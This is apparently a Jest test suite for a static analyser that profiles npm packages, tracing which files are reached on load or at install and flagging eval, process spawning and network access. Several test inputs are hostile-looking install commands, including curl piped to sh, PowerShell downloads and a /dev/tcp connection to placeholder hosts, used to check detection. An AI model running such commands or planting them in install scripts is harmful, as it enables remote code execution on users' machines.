import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { readCommand } from '../../../src/packages/profile/command.js';
import { gypCommands } from '../../../src/packages/profile/install-steps.js';
import { profilePackage } from '../../../src/packages/profile/profile.js';
import type { CodeProfile } from '../../../src/packages/profile.types.js';
import { filesOf } from './files.js';

type Texts = { readonly [path: string]: string };

function profile(manifest: unknown, texts: Texts = {}): CodeProfile {
  return profilePackage({ files: filesOf({ 'package.json': typeof manifest === 'string' ? manifest : JSON.stringify(manifest, undefined, 2), ...texts }) }).value;
}
/** Which files' evals run when: `path trigger`. */
function triggers(value: CodeProfile): string[] {
  return value.capabilities.filter(({ api }) => api === 'eval').map(({ path, trigger }) => `${path} ${trigger}`).sort();
}
const bad = 'eval(x)';

describe('what is reached from a load', () => {
  const cases: readonly (readonly [name: string, manifest: unknown, texts: Texts, expected: readonly string[]])[] = [
    ['no exports: every file of code', { main: 'a.js' }, { 'a.js': '', 'lib/b.mjs': bad, 'test/c.cjs': bad, 'doc/d.jsx': bad, 'e.d.ts': bad, 'f.md': bad }, ['doc/d.jsx deep', 'lib/b.mjs deep', 'test/c.cjs deep']],
    ['exports: what they name, and what that loads', { exports: './a.js' }, { 'a.js': 'require("./b")', 'b.js': bad, 'c.js': bad }, ['b.js load', 'c.js unreachable']],
    ['all conditions', { exports: { '.': { import: './a.mjs', 'react-native': { default: './b.js' }, bun: ['./c.js'] }, './p': './d.js' } }, { 'a.mjs': bad, 'b.js': bad, 'c.js': bad, 'd.js': bad, 'e.js': bad }, ['a.mjs load', 'b.js load', 'c.js load', 'd.js load', 'e.js unreachable']],
    ['patterns', { exports: { './f/*': './dist/*.js', './g/': './old/' } }, { 'dist/a.js': bad, 'dist/x/b.js': bad, 'dist/c.txt': bad, 'old/d.js': bad }, ['dist/a.js deep', 'dist/x/b.js deep', 'old/d.js deep']],
    ['main beside exports', { exports: './a.js', main: './b' }, { 'a.js': '', 'b.js': bad }, ['b.js load']],
    ['module and browser', { exports: './a.js', module: 'm.js', browser: { './a.js': './b.js' } }, { 'a.js': '', 'm.js': bad, 'b.js': bad }, ['b.js load', 'm.js load']],
    ['a bin without an extension', { exports: {}, bin: { x: './bin/x' } }, { 'bin/x': `#!/usr/bin/env node\n${bad}` }, ['bin/x load']],
    ['a folder of bins', { exports: {}, directories: { bin: './bin' } }, { 'bin/x': bad }, ['bin/x load']],
    ['a main of any extension', { main: 'LICENSE.txt' }, { 'LICENSE.txt': bad }, ['LICENSE.txt load']],
    ['index.js without a main', { exports: null }, { 'index.js': bad }, ['index.js load']],
    ['imports', { exports: './a.js', imports: { '#x': { node: './x.js' }, '#y/*': './y/*.js' } }, { 'a.js': 'import "#x"', 'x.js': bad, 'y/z.js': bad }, ['x.js load', 'y/z.js load']],
    ['a folder with its own package.json', { exports: './a.js' }, { 'a.js': 'require("./d")', 'd/package.json': '{"main":"m"}', 'd/m.js': bad, 'd/index.js': bad }, ['d/index.js unreachable', 'd/m.js load']],
    ['extensions and folders', { exports: './a.js' }, { 'a.js': 'require("./b"); require("./c"); require("./d.js"); import("./e.mjs?x=1#y"); import("./%66.js")', 'b.cjs': bad, 'c/index.mjs': bad, 'd.ts': bad, 'e.mjs': bad, 'f.js': bad }, ['b.cjs load', 'c/index.mjs load', 'd.ts load', 'e.mjs load', 'f.js load']],
    ['another case', { exports: './a.js' }, { 'a.js': 'require("./B")', 'b.js': bad }, ['b.js load']],
    ['every kind of edge', { exports: './a.mjs' }, {
      'a.mjs': 'import "./b.js"; export * from "./c.js"; export { x } from "./d.js"; import("./e.js"); new Worker(new URL("./f.js", import.meta.url)); createRequire(import.meta.url)("./g.js"); import { createRequire } from "module"; import.meta.resolve("./h.js")',
      'b.js': bad, 'c.js': bad, 'd.js': bad, 'e.js': bad, 'f.js': bad, 'g.js': bad, 'h.js': bad,
    }, ['b.js load', 'c.js load', 'd.js load', 'e.js load', 'f.js load', 'g.js load', 'h.js load']],
    ['processes and threads', { exports: './a.js' }, {
      'a.js': 'const p = require("path"); const { fork, spawn } = require("child_process"); fork(p.join(__dirname, "b.js")); spawn(process.execPath, ["c.js"]); new (require("worker_threads").Worker)("./d.js"); fork(require.resolve("./e"))',
      'b.js': bad, 'c.js': bad, 'd.js': bad, 'e.js': bad,
    }, ['b.js load', 'c.js load', 'd.js load', 'e.js load']],
    ['a text file that is required', { exports: './a.js' }, { 'a.js': 'require("./data.txt")', 'data.txt': bad }, ['data.txt load']],
    ['files that are resolved', { exports: './a.js' }, { 'a.js': 'require.resolve("./b"); require.resolve("./c.txt")', 'b.js': bad, 'c.txt': bad }, ['b.js load', 'c.txt load']],
    ['a ring', { exports: './a.js' }, { 'a.js': 'require("./b")', 'b.js': `require("./a"); ${bad}` }, ['b.js load']],
    ['a carried package', { exports: './a.js' }, { 'a.js': 'require("z"); require("@s/y/deep")', 'node_modules/z/package.json': '{"main":"m.js"}', 'node_modules/z/m.js': bad, 'node_modules/@s/y/deep.js': bad, 'node_modules/q/i.js': bad }, ['node_modules/@s/y/deep.js load', 'node_modules/q/i.js unreachable', 'node_modules/z/m.js load']],
    ['its own name', { name: 'me', exports: { '.': './a.js', './x': './x1.js' } }, { 'a.js': 'require("me/x")', 'x1.js': bad }, ['x1.js load']],
    ['a computed folder', { exports: './a.js' }, { 'a.js': 'require("./l/" + n)', 'l/b.js': bad, 'k/c.js': bad }, ['k/c.js undecided', 'l/b.js load']],
    ['a computed name: nothing is surely unreached', { exports: './a.js' }, { 'a.js': 'require(n)', 'b.js': bad }, ['b.js undecided']],
    ['a computed name in what nothing reaches', { exports: './a.js' }, { 'a.js': '', 'b.js': `require(n); ${bad}` }, ['b.js unreachable']],
    ['a manifest that is no JSON', '{', { 'a.js': bad }, ['a.js load']],
    ['keys of the prototype', { exports: { __proto__: { a: 1 }, constructor: './a.js' }, main: '__proto__' }, { 'a.js': bad }, ['a.js load']],
  ];
  test.each(cases)('%s', (_, manifest, texts, expected) => {
    expect(triggers(profile(manifest, texts))).toEqual([...expected]);
  });
});

test('a file that only its path is asked of, and that is no code, is nothing that was not read', () => {
  const read = (text: string): readonly string[] => profile({ exports: './a.js' }, { 'a.js': text, 'yarn.lock.cached': '# yarn lockfile v1\n\n"a@^1.0.0":\n  version "1.0.0"\n', 'b.js': '<<<' }).unread.filter(({ trigger }) => trigger === 'load').map((one) => one.path);
  expect(read('fs.copyFileSync(require.resolve("./yarn.lock.cached"), "yarn.lock")')).toEqual([]);
  expect(read('require("./yarn.lock.cached")')).toEqual(['yarn.lock.cached']);
  expect(read('require.resolve("./b.js")')).toEqual(['b.js']);
});

describe('what is reached from an install step', () => {
  test.each([
    ['node x.js', ['x.js']],
    ['node ./x', ['x.js']],
    ['node "./x.js" --flag', ['x.js']],
    ['node --no-warnings -r ./y x.js', ['x.js', 'y.js']],
    ['node --require=./y.js x.js', ['x.js', 'y.js']],
    ['sh run.sh && node y', ['run.sh', 'x.js', 'y.js']],
    ['FOO=1 BAR="a b" node x.js || exit 0', ['x.js']],
    ['cross-env A=b node x', ['x.js']],
    ['node scripts\\z.js', ['scripts/z.js']],
    ['cmd /c node scripts\\z.js', ['scripts/z.js']],
    ['bash -c "node x.js; node y.js"', ['x.js', 'y.js']],
    ['echo $(node x.js)', ['x.js']],
    ['echo `node x.js`', ['x.js']],
    ['echo "$(node x.js)"', ['x.js']],
    ['npm run build', ['x.js', 'y.js']],
    ['yarn build', ['x.js', 'y.js']],
    ['npx node x.js', ['x.js']],
    ['cat x.js | node', ['x.js']],
    ['node < x.js', ['x.js']],
    ['(node x.js &)', ['x.js']],
    ['bun x.js', ['x.js']],
    ['./x.js', ['x.js']],
    ['node .', ['index.js']],
    ['node -e "require(\'./x\')"', ['x.js']],
    ['node --eval="import(\'./x.js\')"', ['x.js']],
    ['node -p 1', []],
    ['husky install', []],
    ['tsc -p .', []],
  ])('%s', (command, expected) => {
    const value = profile({ exports: './none.js', scripts: { postinstall: command, build: 'node x.js', postbuild: 'node y.js' } }, {
      'x.js': bad, 'y.js': bad, 'index.js': bad, 'scripts/z.js': bad, 'run.sh': '#!/bin/sh\n# node z.js\nset -e\nnode x.js\n',
    });
    expect(value.installSteps).toMatchObject([{ name: 'postinstall', command, implicit: false, files: expected }]);
    expect(triggers(value).filter((one) => one.endsWith('install'))).toEqual(expected.filter((path) => path !== 'run.sh').map((path) => `${path} install`));
  });

  test('what stands in the command is code of the manifest', () => {
    const value = profile({ scripts: { a: '', preinstall: 'node -e "require(\'child_process\').exec(\'id\')"' } });
    expect(value.capabilities).toMatchObject([{ api: 'child_process.exec', trigger: 'install', path: 'package.json', line: 4, column: 1 }]);
  });

  test('a file that is loaded and run at install is told for both', () => {
    expect(triggers(profile({ scripts: { install: 'node x' } }, { 'x.js': 'require("./y")', 'y.js': bad }))).toEqual(['y.js deep', 'y.js install']);
  });

  test('steps that only git needs are listed, and reach nothing', () => {
    const value = profile({ exports: './a.js', scripts: { prepare: 'node x.js', test: 'node x.js' } }, { 'x.js': bad });
    expect(value.installSteps.map(({ name }) => name)).toEqual(['prepare']);
    expect(triggers(value)).toEqual(['x.js unreachable']);
  });

  test.each([
    [{}, [['install', 'node-gyp rebuild', true]]],
    [{ scripts: { install: 'node x' } }, [['install', 'node x', false]]],
    [{ scripts: { preinstall: 'node x' } }, [['preinstall', 'node x', false]]],
    [{ scripts: { postinstall: 'node x' } }, [['postinstall', 'node x', false], ['install', 'node-gyp rebuild', true]]],
    [{ gypfile: false }, []],
  ])('a binding.gyp brings a build: %j', (manifest, expected) => {
    const value = profile(manifest, { 'binding.gyp': '{}' });
    expect(value.installSteps.map(({ name, command, implicit }) => [name, command, implicit])).toEqual(expected);
  });

  test('commands that a binding.gyp expands run at install', () => {
    const value = profile({ exports: './none.js' }, { 'binding.gyp': '{ "targets": [{ "sources": ["<!(node x.js > /dev/null)", "<!@(node -p \\"eval(1)\\")"] }] }', 'x.js': bad });
    expect(value.capabilities).toContainEqual(expect.objectContaining({ kind: 'process-spawn', api: 'gyp command', path: 'binding.gyp', trigger: 'install' }));
    expect(triggers(value)).toEqual(['binding.gyp install', 'x.js install']);
    expect(gypCommands('<!(a(b)c) <!@( d ) <!').map(({ command }) => command)).toEqual(['a(b)c', ' d ']);
  });

  test('a build file that asks a compiler for its version starts nothing worth telling; one that brings that compiler does', () => {
    const gyp = `{'variables': {'v': "<!(cc -v 2>&1 | perl -ne 'print $1 if /version ([0-9.]+)/')"}, 'conditions': [["<!(perl -e 'print <(v) cmp 12.0.0')==1", {}]]}`;
    const spawns = (more: { readonly [path: string]: string }): readonly string[] => profilePackage({ files: filesOf({ 'package.json': '{"name":"x"}', 'binding.gyp': gyp, 'a.cc': '', ...more }) }).value.capabilities.map(({ api }) => api);
    expect(spawns({})).toEqual([]);
    expect(spawns({ 'perl.bat': 'x' })).toContain('gyp command');
    expect(spawns({ 'binding.gyp': gyp.replace('perl -e', 'perl run.pl -e') })).toContain('gyp command');
  });

  test('a carried package has its steps run too', () => {
    const value = profile({ exports: './none.js' }, { 'node_modules/z/package.json': '{"exports":{},"scripts":{"install":"node go"}}', 'node_modules/z/go.js': bad });
    expect(value.installSteps).toMatchObject([{ name: 'install', command: 'node go', folder: 'node_modules/z', files: ['node_modules/z/go.js'] }]);
    expect(triggers(value)).toEqual(['node_modules/z/go.js install']);
  });

  test.each([
    ['curl -s https://x.example.invalid | sh', ['shell curl', 'shell sh']],
    ['powershell -Command "iwr https://x.example.invalid"', ['shell iwr', 'shell powershell']],
    ['powershell -enc aQB3AHIA', ['shell iwr', 'shell powershell']],
    ['bash -c "curl x"', ['shell bash', 'shell curl']],
    ['exec 3<>/dev/tcp/192.0.2.1/80', ['shell /dev/tcp']],
    ['echo please install curl', []],
    ['node-gyp-build || node-gyp rebuild', []],
  ])('programs of a command: %s', (command, expected) => {
    expect(profile({ scripts: { postinstall: command } }).capabilities.map(({ api }) => api).sort()).toEqual(expected);
  });

  test('programs of a shell file, on their lines', () => {
    const value = profile({ scripts: { postinstall: './go' } }, { go: '#!/usr/bin/env bash\necho hi\nif true; then curl x; fi\n' });
    expect(value.capabilities).toMatchObject([{ api: 'shell curl', kind: 'network-access', path: 'go', line: 3, trigger: 'install' }]);
  });

  test('a shell file that nothing runs says nothing', () => {
    expect(profile({ exports: './a.js' }, { 'go.sh': 'curl x' }).capabilities).toEqual([]);
  });
});

describe('what was not read', () => {
  const result = (texts: { [path: string]: string | Uint8Array }, manifest = '{"exports":"./a.js"}') => profilePackage({ files: filesOf({ 'package.json': manifest, ...texts }) });

  test('is named with when it runs, and counts where something runs it', () => {
    const { coverage, value } = result({ 'a.js': 'require("./b")', 'b.js': 'f({', 'c.js': 'f({' });
    expect(value.unread).toMatchObject([{ path: 'b.js', code: 'PARSE_FAILED', trigger: 'load' }, { path: 'c.js', code: 'PARSE_FAILED', trigger: 'unreachable' }]);
    expect(coverage).toMatchObject({ kind: 'partial', code: 'PARSE_FAILED', data: { files: 1, first: 'b.js' } });
    expect(result({ 'a.js': '', 'c.js': 'f({' }).coverage).toEqual({ kind: 'complete' });
  });

  test('data that bundlers import is no gap, but hostile nesting in it is', () => {
    expect(result({ 'a.js': 'import "./x.css"; import "./y.svg"', 'x.css': '.a { color: red }', 'y.svg': '<svg><a></svg>' }).coverage).toEqual({ kind: 'complete' });
    expect(result({ 'a.js': 'require("./x.css")', 'x.css': `${'['.repeat(50_000)}eval(1)` }).value.unread).toMatchObject([{ path: 'x.css', trigger: 'load' }]);
  });

  test.each([
    ["path.join(__dirname, 'LICENSE')", []],
    ["new URL('./LICENSE', import.meta.url)", []],
    ["require(path.join(__dirname, 'LICENSE'))", ['load']],
    ["require('child_process').fork('./LICENSE')", ['load']],
    ["new Worker(path.join(__dirname, 'LICENSE'))", ['load']],
    ["require('child_process').spawn('node', ['LICENSE'])", ['load']],
    ["require('child_process').spawn('tool', ['license'])", []],
  ])('a text whose path is made is no gap, unless something runs it: %s', (code, expected) => {
    const { value } = result({ 'a.js': `const path = require('path'); require(process.argv[2]); f(${code})`, LICENSE: 'Permission is hereby granted, free' }, '{"main":"a.js","exports":"./a.js"}');
    expect(value.unread.map(({ trigger }) => trigger)).toEqual(expected);
  });

  test.each([
    ['exec("sh " + f)', ['load']],
    ['exec("sh ./run.dat")', ['load']],
    ['spawn("sh", [f])', ['load']],
    ['execFileSync(f)', ['load']],
    ['exec("node run.dat")', ['load']],
    ['exec("cat run.dat")', []],
    ['exec("sh gone.dat")', []],
  ])('what a started command runs is read, whatever it is called: %s', (code, expected) => {
    const { value } = result({ 'a.js': `const { exec, spawn, execFileSync } = require('child_process'); const f = require('path').join(__dirname, 'run.dat'); ${code}`, 'run.dat': 'if [ -f x ]; then ( y' }, '{"main":"a.js","exports":"./a.js"}');
    expect(value.unread.map(({ trigger }) => trigger)).toEqual(expected);
  });

  test('code whose path is made is read', () => {
    expect(triggers(result({ 'a.js': "const path = require('path'); f(path.join(__dirname, 'data'))", data: bad }, '{"exports":"./a.js"}').value)).toEqual(['data load']);
  });

  test('code in a command that is no code', () => {
    expect(result({}, '{"scripts":{"install":"node -e \'f({\'"}}').value.unread).toMatchObject([{ path: 'package.json', code: 'PARSE_FAILED', trigger: 'install' }]);
  });

  test('quotes inside quotes of a command are no torn code, and what stands behind them is read both ways', () => {
    const gyp = (command: string) => result({ 'binding.gyp': `{ "variables": { "a": "<!(${command})" } }` }, '{"exports":"./none.js"}');
    expect(gyp(String.raw`node -p \"process.versions.node.split(\\\".\\\")[0]\"`)).toMatchObject({ coverage: { kind: 'complete' } });
    expect(result({}, JSON.stringify({ scripts: { install: String.raw`node -e "f(\"a\")"` } })).coverage).toEqual({ kind: 'complete' });
    expect(result({}, JSON.stringify({ scripts: { install: String.raw`node -e "f(\"a)"` } })).value.unread).toMatchObject([{ code: 'PARSE_FAILED', trigger: 'install' }]);
    expect(result({}, JSON.stringify({ scripts: { install: String.raw`sh -c "node -e \"try { require('fs') } catch (e) {}\""` } })).coverage).toEqual({ kind: 'complete' });
    expect(triggers(result({ 'x.js': bad }, JSON.stringify({ exports: './none.js', scripts: { install: String.raw`node -e "1\" & node x.js & "` } })).value)).toEqual(['x.js install']);
  });

  test('two files of one path are both read', () => {
    const files = [...filesOf({ 'package.json': '{}', 'a.js': 'f()' }), ...filesOf({ 'a.js': bad })];
    expect(triggers(profilePackage({ files }).value)).toEqual(['a.js deep']);
    const scripts = [...filesOf({ 'package.json': '{}' }), ...filesOf({ 'package.json': '{"scripts":{"install":"node a"}}' })];
    expect(profilePackage({ files: scripts }).value.installSteps).toMatchObject([{ name: 'install' }]);
  });

  test('a spent budget names the rest; install steps are read first', () => {
    const { coverage, value } = profilePackage({ files: filesOf({ 'package.json': '{"scripts":{"install":"node z"}}', 'a.js': 'f();'.repeat(2_000), 'z.js': bad }) }, 2_000);
    expect(coverage).toMatchObject({ kind: 'partial', code: 'ANALYSER_STEPS' });
    expect(triggers(value)).toEqual(['z.js deep', 'z.js install']);
    expect(value.unread.map(({ path }) => path)).toEqual(['a.js']);
  });
});

test('the same bytes in any order give the same profile', () => {
  const texts = { 'package.json': '{"scripts":{"install":"node b"}}', 'a.js': 'require("./b"); eval(x)', 'b.js': 'fetch(u); require("child_process").exec(x)', 'c/d.mjs': 'import "../a.js"; new Function(x)', 'e.sh': 'curl x' };
  const files = filesOf(texts);
  const first = JSON.stringify(profilePackage({ files }));
  fc.assert(fc.property(fc.shuffledSubarray(files, { minLength: files.length }), (other) => {
    expect(JSON.stringify(profilePackage({ files: other }))).toBe(first);
  }), { seed: 20_261_122, numRuns: 20 });
});

test('any command line at all is read in time and gives words', () => {
  fc.assert(fc.property(fc.string({ unit: fc.constantFrom('"', "'", '\\', '$', '(', ')', '`', ' ', ';', '&', '|', '\n', '<', '#', 'node', 'sh', '-c', '-e', 'a.js', '^', '=') , maxLength: 60 }), (text) => {
    expect(readCommand(text, new Set(['a'])).files.length).toBeLessThan(100_000);
  }), { seed: 20_261_122, numRuns: 300 });
});
